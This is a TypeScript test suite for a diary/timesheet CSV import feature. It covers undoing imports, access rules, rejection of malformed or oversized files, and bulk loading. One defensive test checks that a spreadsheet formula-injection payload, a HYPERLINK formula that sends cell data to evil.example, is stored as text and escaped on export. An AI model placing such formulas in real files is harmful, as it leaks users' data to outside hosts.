import { describe, expect, test } from 'vitest'

import { undoChange } from '#features/undo/undo.contract.ts'
import { testServer } from '#test/firm.ts'
import { base64, csv, header, importer, importing, sample } from '#test/imports.ts'
import { changeDiaryEntry, submitDiary } from '../diary.contract.ts'
import { exportDiary, listDiaryImports, undoDiaryImport } from '../diary.transfer.contract.ts'

const server = testServer()
const { as, grant, inFirm } = server
const { preview, load, importers, entriesOf } = importing(server)

describe('taking it back', () => {
  const times = csv(header, '2026-03-02,09:00,10:00,Bridge,Levels,a', '2026-03-03,09:00,10:00,Bridge,Levels,b')

  test('within a minute by the answer’s token: as if it had never been', async () => {
    const { sam } = await importers()
    const { headers } = await load(sam, times)
    expect((await as(sam, undoChange, { body: { token: String(headers['x-undo']) } })).status).toBe(204)
    expect(await entriesOf(sam)).toEqual([])
    expect((await as(sam, listDiaryImports, { query: {} })).body.results).toEqual([])
    expect((await load(sam, times)).status).toBe(201)
  })

  test('whenever later, as a whole; and the same file may be imported again', async () => {
    const { sam } = await importers()
    const { body: made } = await load(sam, times)

    const undone = await as(sam, undoDiaryImport, { params: { id: String(made.id) } })

    expect([undone.status, undone.body]).toMatchObject([
      200,
      { id: made.id, undone: expect.any(String), undone_by: { name: 'Sam Stone' }, can_undo: false },
    ])
    expect(await entriesOf(sam)).toEqual([])
    expect((await as(sam, undoDiaryImport, { params: { id: String(made.id) } })).body).toMatchObject({
      code: 'state',
      detail: 'This import was taken back already.',
    })
    expect((await load(sam, times)).status).toBe(201)
    expect((await as(sam, undoChange, { body: { token: String(undone.headers['x-undo']) } })).status).toBe(409)
  })

  test('not once something of it was changed, submitted or deleted', async () => {
    const { sam } = await importers()
    for (const touch of ['change', 'submit', 'delete']) {
      const { body: made } = await load(sam, { ...times, duplicates: 'import' })
      const [entry] = await entriesOf(sam)
      const id = entry?.id ?? 0
      if (touch === 'change')
        await as(sam, changeDiaryEntry, { params: { id: String(id) }, body: { details: 'c', version: 1 } })
      else if (touch === 'submit') await as(sam, submitDiary, { body: { ids: [id] } })
      else await inFirm(sam, (db) => db.deleteFrom('diary_entry').where('id', '=', id).execute())

      expect((await as(sam, listDiaryImports, { query: {} })).body.results[0]).toMatchObject({
        id: made.id,
        can_undo: false,
      })
      const { status, body } = await as(sam, undoDiaryImport, { params: { id: String(made.id) } })
      expect([touch, status, body['code']]).toEqual([touch, 409, 'stale'])
      await inFirm(sam, (db) => db.deleteFrom('diary_entry').execute())
    }
  })

  test('one’s own, or anybody’s by who may change any entry; else it is not there', async () => {
    const [{ sam, maya, ada }, other] = [await importers(), await importers()]
    const { body: made } = await load(sam, times)
    const params = { id: String(made.id) }
    for (const person of [maya, other.ada]) {
      expect((await as(person, listDiaryImports, { query: {} })).body).toEqual({ results: [], count: 0 })
      const { status, text } = await as(person, undoDiaryImport, { params })
      expect([status, text]).toEqual([404, ''])
    }
    expect((await as(ada, listDiaryImports, { query: {} })).body).toMatchObject({
      count: 1,
      results: [{ user: { name: 'Sam Stone' } }],
    })
    expect((await as(ada, undoDiaryImport, { params })).status).toBe(200)
  })
})

describe('files that are none', () => {
  test.each([
    ['Windows-1252', sample('windows-1252.csv'), 'This file is not in UTF-8: it looks like Windows-1252'],
    ['UTF-16', sample('utf-16.csv'), 'This file is in UTF-16'],
    ['200,000 rows', base64(`Date,Hours\n${'2026-03-02,1\n'.repeat(200_000)}`), 'This file has about 200,000 rows;'],
    ['nothing but blanks', base64('Date,Hours\n , \n'), 'This file has no rows'],
  ])('%s is refused with a sentence', async (_, content, sentence) => {
    const { sam } = await importers()
    for (const answer of [await preview(sam, { content }), await load(sam, { content })]) {
      expect(answer.status).toBe(400)
      expect(answer.text).toContain(sentence)
    }
  })

  test('what is larger than an upload may be is refused, and nobody sends one who may not import', async () => {
    const { sam, olga } = await importers()
    const upload = { method: 'POST' as const, url: '/api/diary/import/', payload: ' '.repeat(28_100_000) }
    const by = async (person: typeof sam) => ({
      ...(await server.headersOf(person)),
      'content-type': 'application/json',
    })
    const answers = [
      await server.raw({ ...upload, headers: { 'content-type': 'application/json' } }),
      await server.raw({ ...upload, headers: await by(olga) }),
      await server.raw({ ...upload, headers: await by(sam) }),
    ]
    expect(answers.map(({ status, body }) => [status, body['detail']])).toEqual([
      [401, 'Please sign in.'],
      [403, 'You do not have permission to perform this action.'],
      [413, 'This is too large to send.'],
    ])
  })

  test('formulas are text, in and out again', async () => {
    const { sam } = await importers()
    await grant(sam, ...importer, 'diary.export')
    expect((await load(sam, { content: sample('formulas.csv') })).status).toBe(201)
    expect((await entriesOf(sam))[0]?.details).toBe('=HYPERLINK("http://evil.example/?"&A1,"Levels")')
    const { text } = await as(sam, exportDiary, { query: {} })
    expect(text).toContain(`"'=HYPERLINK(`)
  })
})

test('a whole year of a firm, 20,000 rows, goes in at once', { timeout: 120_000 }, async () => {
  const { maya } = await importers()
  const rows = Array.from({ length: 20_000 }, (_, at) => {
    const day = Temporal.PlainDate.from('2020-01-01').add({ days: Math.floor(at / 10) })
    return `${day.toString()},${at % 2 ? 'Maya Moss' : 'Sam Stone'},0:45,Bridge,Levels,Row ${at}`
  })
  const { status, body } = await load(maya, csv('Date,User,Hours,Project,Task,Notes', ...rows))
  expect([status, body]).toMatchObject([201, { entries: 20_000, hours: '15000.00' }])
})
